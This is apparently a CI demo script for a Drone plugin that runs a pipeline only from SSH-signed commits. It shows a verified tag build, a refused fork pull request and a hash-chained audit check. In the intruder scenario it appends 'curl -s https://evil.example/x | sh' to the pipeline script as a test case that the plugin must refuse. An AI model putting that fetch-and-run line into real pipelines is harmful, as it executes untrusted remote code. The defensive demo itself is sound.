#!/bin/sh
# make demo: the plugin image running exactly as Drone's docker runner runs a
# step (its environment variables, the Docker socket and a cache volume
# mounted), against a local trusted pipeline repository whose main line is
# signed. Shows a verified release run whose pipeline starts a sibling
# container through the socket (as Dagger starts its engine), and a fork's
# pull request refused before anything runs.
set -eu
root=$(cd "$(dirname "$0")/.." && pwd)
cd "$root"
BUILD=${BUILD:-build}
work=$(mktemp -d "${TMPDIR:-/tmp}/mainline-demo.XXXXXX")
cache=mainline-demo-cache
workspace=mainline-demo-workspace
cleanup() {
	docker volume rm -f "$cache" "$workspace" >/dev/null 2>&1 || true
	rm -rf "$work"
}
trap cleanup EXIT

say() { printf '\n\033[1m== %s\033[0m\n' "$*"; }

say "Building the plugin image, a pipeline image and a test image (no registry needed)"
scripts/dockerd.sh
plugin_image=$(BUILD=$BUILD scripts/image.sh)
scripts/test-image.sh mainline-test/busybox:1
base=$(scripts/base-image.sh)
mkdir -p "$work/pipeline-image"
cp "$(command -v docker)" "$work/pipeline-image/docker"
printf 'FROM %s\nCOPY docker /usr/local/bin/docker\n' "$base" >"$work/pipeline-image/Dockerfile"
docker build -q -t mainline-demo/pipeline:1 "$work/pipeline-image" >"$work/build.log" 2>&1 ||
	{ cat "$work/build.log" >&2; exit 1; }
echo "plugin image $plugin_image, pipeline image mainline-demo/pipeline:1 (Debian + docker CLI)"

say "A trusted pipeline repository; main is signed by the release team's SSH key"
export HOME="$work/home" GIT_CONFIG_NOSYSTEM=1
mkdir -p "$HOME"
export GIT_AUTHOR_NAME="Release Team" GIT_AUTHOR_EMAIL="release@example.org"
export GIT_COMMITTER_NAME="Release Team" GIT_COMMITTER_EMAIL="release@example.org"
git config --global init.defaultBranch main
ssh-keygen -q -t ed25519 -N '' -C release -f "$work/release-key"
signers=$(printf 'release@example.org namespaces="git" %s' "$(cut -d' ' -f1,2 "$work/release-key.pub")")
repo="$work/ci-pipelines"
git init -q "$repo"
git -C "$repo" config gpg.format ssh
git -C "$repo" config user.signingkey "$work/release-key"
mkdir -p "$repo/ci"
cat >"$repo/ci/publish.sh" <<'SH'
#!/bin/sh
# The release pipeline: what a Dagger program would do, in shell.
set -e
echo "pipeline: running verified code from $(pwd)"
echo "pipeline: build $DRONE_BUILD_NUMBER of $DRONE_REPO, event $DRONE_BUILD_EVENT, tag ${DRONE_TAG:-none}"
echo "pipeline: starting a sibling container through the mounted Docker socket (as Dagger starts its engine)"
docker run --rm mainline-test/busybox:1 echo "sibling: hello from a container started by the pipeline"
cd "$DRONE_WORKSPACE"
echo "pipeline: building the project checked out in $DRONE_WORKSPACE"
sh ./build.sh "${DRONE_TAG:-snapshot}"
echo "pipeline: artefact dist/app-${DRONE_TAG:-snapshot}.txt is in the workspace for the next step"
echo "pipeline: published"
SH
chmod +x "$repo/ci/publish.sh"
git -C "$repo" add ci
git -C "$repo" commit -q -S -m "ci: publish pipeline"
printf '%s\n' "$signers" >"$work/allowed_signers"
git -C "$repo" -c gpg.ssh.allowedSignersFile="$work/allowed_signers" log --format='%h %G? %s' main

say "Drone's clone step: the project's checkout in the workspace volume"
docker volume create "$workspace" >/dev/null
docker run --rm -v "$workspace:/drone/src" mainline-test/busybox:1 sh -c '
	cd /drone/src
	echo "hello, release" >app.txt
	printf "%s\n" "#!/bin/sh" "mkdir -p dist" \
		"{ echo \"app \$1\"; cat app.txt; } >dist/app-\$1.txt" >build.sh
	ls -l /drone/src'

# What Drone's docker runner does for a plugin step: DRONE_* variables, PLUGIN_*
# settings, the workspace volume at /drone/src, here also the socket and a cache.
step() {
	docker run --rm \
		-v /var/run/docker.sock:/var/run/docker.sock \
		-v "$cache:/var/cache/mainline" \
		-v "$workspace:/drone/src" -w /drone/src \
		-v "$repo:/srv/ci-pipelines:ro" \
		-e PLUGIN_SOURCE=/srv/ci-pipelines \
		-e PLUGIN_ALLOWED_SIGNERS="$signers" \
		-e PLUGIN_IMAGE=mainline-demo/pipeline:1 \
		-e PLUGIN_COMMAND='["./ci/publish.sh"]' \
		-e PLUGIN_DOCKER_SOCKET=true \
		-e PLUGIN_AUDIT_FILE=/var/cache/mainline/audit.jsonl \
		-e DRONE_REPO=acme/app -e DRONE_REPO_OWNER=acme -e DRONE_REPO_NAME=app \
		-e DRONE_BUILD_NUMBER=17 -e DRONE_BUILD_LINK=https://drone.example/acme/app/17 \
		-e DRONE_STEP_NAME=release -e DRONE_WORKSPACE=/drone/src \
		-e DRONE_COMMIT_SHA=4f1c0de0000000000000000000000000000000aa \
		"$@" "$plugin_image"
}

# Each run ends as shown, or the demo fails (CI runs it on every submission).
wrong=
check() { # WHAT WANT_CODE WANT_LINE STEP_ARGS...: a step, its exit code and a line of its output
	what=$1 want=$2 line=$3
	shift 3
	{
		step "$@"
		echo $? >"$work/rc"
	} 2>&1 | tee "$work/out"
	rc=$(cat "$work/rc")
	echo "(step exit code $rc)"
	[ "$rc" = "$want" ] && grep -q -- "$line" "$work/out" && return 0
	echo "demo: $what exited $rc without '$line' (expected exit $want)" >&2
	wrong="$wrong, $what"
}

say "Tag build v1.0.0: verified, then the pipeline runs"
printf '$ docker run ... -e DRONE_BUILD_EVENT=tag -e DRONE_TAG=v1.0.0 %s\n' "$plugin_image"
set +e
check "the verified tag build" 0 '^pipeline: published' \
	-e DRONE_BUILD_EVENT=tag -e DRONE_COMMIT_REF=refs/tags/v1.0.0 -e DRONE_TAG=v1.0.0

say "The next step of the build finds the artefact in the workspace"
docker run --rm -v "$workspace:/drone/src" mainline-test/busybox:1 cat /drone/src/dist/app-v1.0.0.txt ||
	wrong="$wrong, the artefact in the workspace"

say "Pull request from a fork: refused before anything is fetched or run"
printf '$ docker run ... -e DRONE_BUILD_EVENT=pull_request -e DRONE_COMMIT_REF=refs/pull/12/head %s\n' "$plugin_image"
check "the fork's pull request" 1 '^refused: pull_request: ' \
	-e DRONE_BUILD_EVENT=pull_request -e DRONE_COMMIT_REF=refs/pull/12/head \
	-e DRONE_PULL_REQUEST=12 -e DRONE_SOURCE_BRANCH=fork/main -e DRONE_COMMIT_BRANCH=main

say "Someone without the release key pushes to the pipeline repository's main"
ssh-keygen -q -t ed25519 -N '' -C intruder -f "$work/intruder-key"
git -C "$repo" config user.signingkey "$work/intruder-key"
echo 'curl -s https://evil.example/x | sh' >>"$repo/ci/publish.sh"
git -C "$repo" commit -q -S -am "ci: small fix"
check "the intruder's commit" 1 '^refused: unknown_key: ' \
	-e DRONE_BUILD_EVENT=tag -e DRONE_COMMIT_REF=refs/tags/v1.0.1 -e DRONE_TAG=v1.0.1

say "The audit trail of these runs (hash-chained JSONL in the cache volume)"
docker run --rm -v "$cache:/var/cache/mainline" --entrypoint /usr/local/bin/mainline \
	"$plugin_image" audit verify /var/cache/mainline/audit.jsonl >"$work/audit.out" 2>&1
rc=$?
cat "$work/audit.out"
[ "$rc" = 0 ] && grep -q '^ok: 3 records' "$work/audit.out" ||
	wrong="$wrong, the audit trail (three records, chain intact)"
docker run --rm -v "$cache:/var/cache/mainline" --entrypoint /bin/sh "$plugin_image" -c \
	"cut -c1-160 /var/cache/mainline/audit.jsonl"
set -e
if [ -n "$wrong" ]; then
	echo "demo failed: ${wrong#, }" >&2
	exit 1
fi
